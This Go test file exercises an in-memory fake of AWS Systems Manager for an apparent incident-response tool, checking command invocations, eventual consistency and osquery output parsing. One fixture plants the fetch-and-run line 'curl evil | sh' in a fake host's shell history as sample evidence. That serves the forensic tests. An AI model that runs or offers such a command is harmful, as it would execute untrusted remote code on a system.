package awsfake_test

import (
	"context"
	"errors"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/ssm"
	ssmtypes "github.com/aws/aws-sdk-go-v2/service/ssm/types"

	"github.com/diffy-dfir/diffy/collect"
	"github.com/diffy-dfir/diffy/diffytest/awsfake"
	"github.com/diffy-dfir/diffy/payload"
)

// waitFor polls GetCommandInvocation through the SDK's waiter.
func waitFor(t *testing.T, client *ssm.Client, cmdID, instID string) *ssm.GetCommandInvocationOutput {
	t.Helper()
	w := ssm.NewCommandExecutedWaiter(client, func(o *ssm.CommandExecutedWaiterOptions) {
		o.MinDelay, o.MaxDelay = 10*time.Millisecond, 50*time.Millisecond
	})
	out, err := w.WaitForOutput(context.Background(), &ssm.GetCommandInvocationInput{CommandId: aws.String(cmdID), InstanceId: aws.String(instID)}, time.Minute)
	if err != nil && out == nil {
		// The waiter returns an error for a final non-success status; read
		// the invocation once more for the caller.
		out, err = client.GetCommandInvocation(context.Background(), &ssm.GetCommandInvocationInput{CommandId: aws.String(cmdID), InstanceId: aws.String(instID)})
		if err != nil {
			t.Fatalf("GetCommandInvocation %s %s: %v", cmdID, instID, err)
		}
	}
	return out
}

func send(t *testing.T, client *ssm.Client, ids []string, script string, opt ...func(*ssm.SendCommandInput)) string {
	t.Helper()
	in := &ssm.SendCommandInput{
		DocumentName: aws.String("AWS-RunShellScript"),
		InstanceIds:  ids,
		Parameters:   map[string][]string{"commands": strings.Split(script, "\n")},
		Comment:      aws.String("incident-42"),
	}
	for _, o := range opt {
		o(in)
	}
	out, err := client.SendCommand(context.Background(), in)
	if err != nil {
		t.Fatalf("SendCommand: %v", err)
	}
	return aws.ToString(out.Command.CommandId)
}

// TestSendCommandRunsStandardPack runs on the in-memory network in a
// testing/synctest bubble, so that the consistency delay it checks is on
// the bubble's clock, not on how fast a loaded machine answers.
func TestSendCommandRunsStandardPack(t *testing.T) {
	synctest.Test(t, testSendCommandRunsStandardPack)
}

func testSendCommandRunsStandardPack(t *testing.T) {
	insts := testInstances(3, "g")
	insts[2].NoOsquery = true
	srv := newServer(t, awsfake.WithInstances(insts...), awsfake.WithConsistencyDelay(100*time.Millisecond), awsfake.WithInMemory())
	client := ssm.NewFromConfig(srv.Config())
	ctx := context.Background()
	cmd := payload.StandardPack()[0]
	id := send(t, client, []string{insts[0].Instance.ID, insts[2].Instance.ID}, cmd.Shell)

	// Eventual consistency: the invocation does not exist yet.
	_, err := client.GetCommandInvocation(ctx, &ssm.GetCommandInvocationInput{CommandId: aws.String(id), InstanceId: aws.String(insts[0].Instance.ID)})
	var notYet *ssmtypes.InvocationDoesNotExist
	if !errors.As(err, &notYet) {
		t.Fatalf("right after SendCommand: got %v, want InvocationDoesNotExist", err)
	}
	list, err := client.ListCommandInvocations(ctx, &ssm.ListCommandInvocationsInput{CommandId: aws.String(id)})
	if err != nil || len(list.CommandInvocations) != 0 {
		t.Fatalf("right after SendCommand: ListCommandInvocations %v, %d items; want none", err, len(list.CommandInvocations))
	}

	out := waitFor(t, client, id, insts[0].Instance.ID)
	if out.Status != ssmtypes.CommandInvocationStatusSuccess || out.ResponseCode != 0 {
		t.Fatalf("status %s code %d stderr %q", out.Status, out.ResponseCode, aws.ToString(out.StandardErrorContent))
	}
	rows, err := collect.ParseRows([]byte(aws.ToString(out.StandardOutputContent)))
	if err != nil {
		t.Fatalf("stdout does not parse: %v\n%s", err, aws.ToString(out.StandardOutputContent))
	}
	want := insts[0].Host.(awsfake.Rows)[cmd.ID]
	if len(rows) != len(want) || rows[0]["host"] != insts[0].Instance.ID {
		t.Fatalf("rows %v, want %v", rows, want)
	}
	if aws.ToString(out.Comment) != "incident-42" || aws.ToString(out.PluginName) != awsfake.PluginName {
		t.Errorf("comment %q plugin %q", aws.ToString(out.Comment), aws.ToString(out.PluginName))
	}
	if aws.ToString(out.ExecutionStartDateTime) == "" || aws.ToString(out.ExecutionEndDateTime) == "" {
		t.Errorf("no execution times: %q %q", aws.ToString(out.ExecutionStartDateTime), aws.ToString(out.ExecutionEndDateTime))
	}

	// Without osqueryi the script's own check fails with 127.
	out = waitFor(t, client, id, insts[2].Instance.ID)
	if out.Status != ssmtypes.CommandInvocationStatusFailed || out.ResponseCode != payload.ExitNoOsquery ||
		!strings.Contains(aws.ToString(out.StandardErrorContent), "osqueryi not found") {
		t.Fatalf("no osqueryi: status %s code %d stderr %q", out.Status, out.ResponseCode, aws.ToString(out.StandardErrorContent))
	}

	// SendCommand recorded with its parameters.
	sent := srv.SentCommands()
	if len(sent) != 1 || sent[0].CommandID != id || sent[0].Script != cmd.Shell || sent[0].Comment != "incident-42" {
		t.Fatalf("SentCommands = %+v", sent)
	}
}

func TestSendCommandFramedScript(t *testing.T) {
	insts := testInstances(1, "g")
	srv := newServer(t, awsfake.WithInstances(insts...))
	client := ssm.NewFromConfig(srv.Config())
	pack := payload.StandardPack()
	var b strings.Builder
	for _, c := range pack[:2] {
		b.WriteString("echo '---BEGIN " + c.ID + "---'\n")
		b.WriteString("( " + c.Shell + " )\n")
		b.WriteString("echo \"---END " + c.ID + " $?---\"\n")
	}
	b.WriteString("frobnicate --all\n")
	b.WriteString("echo \"last $?\"")
	id := send(t, client, []string{insts[0].Instance.ID}, b.String())
	out := waitFor(t, client, id, insts[0].Instance.ID)
	stdout := aws.ToString(out.StandardOutputContent)
	for _, c := range pack[:2] {
		begin := strings.Index(stdout, "---BEGIN "+c.ID+"---\n")
		end := strings.Index(stdout, "---END "+c.ID+" 0---\n")
		if begin < 0 || end < begin {
			t.Fatalf("markers of %s missing in\n%s", c.ID, stdout)
		}
		body := stdout[begin+len("---BEGIN "+c.ID+"---\n") : end]
		if _, err := collect.ParseRows([]byte(body)); err != nil {
			t.Errorf("%s: %v in %q", c.ID, err, body)
		}
	}
	if !strings.HasSuffix(stdout, "last 127\n") {
		t.Errorf("stdout does not end with the unknown command's status: %q", stdout[max(0, len(stdout)-40):])
	}
	if !strings.Contains(aws.ToString(out.StandardErrorContent), "frobnicate: command not found") {
		t.Errorf("stderr %q", aws.ToString(out.StandardErrorContent))
	}
	if out.Status != ssmtypes.CommandInvocationStatusSuccess {
		t.Errorf("status %s: the last command (echo) succeeded", out.Status)
	}
}

// queryHost answers one query of its own besides the standard pack.
type queryHost struct{ awsfake.Rows }

func (queryHost) Query(sql string) ([]byte, bool) {
	if strings.Contains(sql, "FROM shell_history") {
		return awsfake.OsqueryJSON([]collect.Row{{"command": "curl evil | sh"}}), true
	}
	return nil, false
}

func TestQueryHostAnswersExtraQueries(t *testing.T) {
	insts := testInstances(1, "g")
	insts[0].Host = queryHost{insts[0].Host.(awsfake.Rows)}
	srv := newServer(t, awsfake.WithInstances(insts...))
	client := ssm.NewFromConfig(srv.Config())
	extra := payload.QueryCommand("shell_history", "", "SELECT command FROM shell_history;")
	id := send(t, client, []string{insts[0].Instance.ID}, extra.Shell+"\nosqueryi --json 'SELECT 1 FROM nowhere'")
	out := waitFor(t, client, id, insts[0].Instance.ID)
	if !strings.Contains(aws.ToString(out.StandardOutputContent), "curl evil | sh") {
		t.Fatalf("extra query: stdout %q", aws.ToString(out.StandardOutputContent))
	}
	if out.ResponseCode != 1 || !strings.Contains(aws.ToString(out.StandardErrorContent), "SELECT 1 FROM nowhere") {
		t.Fatalf("unknown query: code %d stderr %q", out.ResponseCode, aws.ToString(out.StandardErrorContent))
	}
}
